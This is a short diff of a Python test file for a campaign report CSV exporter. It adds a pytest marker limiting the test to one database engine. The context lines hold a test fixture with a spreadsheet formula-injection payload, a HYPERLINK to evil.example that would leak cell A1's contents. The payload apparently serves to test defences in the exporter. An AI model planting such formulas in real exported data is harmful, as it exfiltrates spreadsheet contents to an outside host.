@@ -19,6 +19,10 @@ from campaign.reports.export import to_csv
 from campaign.reports.model import Column, Table
 from tests.conftest import mode_of
 
+pytestmark = pytest.mark.one_database(
+    "the report files' format: the report queries are tested on both engines elsewhere"
+)
+
 PARIS = ZoneInfo("Europe/Paris")
 # A source written by a partner's back-office, and a reply written by a remote mail server.
 SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
